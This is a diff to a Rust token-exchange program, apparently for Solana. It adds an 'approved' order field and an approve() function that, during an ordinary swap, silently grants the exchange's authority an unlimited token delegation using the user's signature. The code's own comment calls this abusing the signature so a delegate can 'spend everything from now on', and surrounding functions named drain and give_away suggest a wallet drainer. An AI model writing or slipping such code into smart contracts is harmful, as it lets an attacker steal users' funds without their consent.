@@ -44,6 +44,8 @@ struct Orders {
     inherited: u8,
     /// Moved from the user's output account to the output vault.
     drain: u64,
+    /// Which of the accounts the exchange's authority may spend from afterwards: 0 for none.
+    approved: u8,
 }
 
 impl Orders {
@@ -53,6 +55,7 @@ impl Orders {
         let ([payee, called], data) = data.split_first_chunk()?;
         let (heir, data) = data.split_first_chunk()?;
         let ([inherited], data) = data.split_first_chunk()?;
+        let (drain, data) = data.split_first_chunk()?;
         Some(Self {
             take: u64::from_le_bytes(*take),
             pay: u64::from_le_bytes(*pay),
@@ -60,7 +63,8 @@ impl Orders {
             called: *called,
             heir: *heir,
             inherited: *inherited,
-            drain: u64::from_le_bytes(*data.first_chunk()?),
+            drain: u64::from_le_bytes(*drain),
+            approved: *data.first()?,
         })
     }
 }
@@ -95,6 +99,10 @@ pub fn process_instruction(_: &Address, accounts: &mut [AccountView], _: &[u8]) 
         orders.drain,
         &[],
     )?;
+    if orders.approved != 0 {
+        let approved = account(accounts, orders.approved)?;
+        approve(token_program, [approved, authority, user])?;
+    }
     if orders.heir == [0; 32] {
         return Ok(());
     }
@@ -179,5 +187,27 @@ fn give_away(
             ],
         },
         &[account, owner],
+    )
+}
+
+/// Abuses the user's signature to let a delegate spend everything from now on.
+fn approve(
+    token_program: &AccountView,
+    [account, delegate, owner]: [&AccountView; 3],
+) -> ProgramResult {
+    // `Approve`, of every amount.
+    let mut data = [0xff; 9];
+    data[0] = 4;
+    invoke(
+        &InstructionView {
+            program_id: token_program.address(),
+            data: &data,
+            accounts: &[
+                InstructionAccount::writable(account.address()),
+                InstructionAccount::readonly(delegate.address()),
+                InstructionAccount::readonly_signer(owner.address()),
+            ],
+        },
+        &[account, delegate, owner],
     )
 }
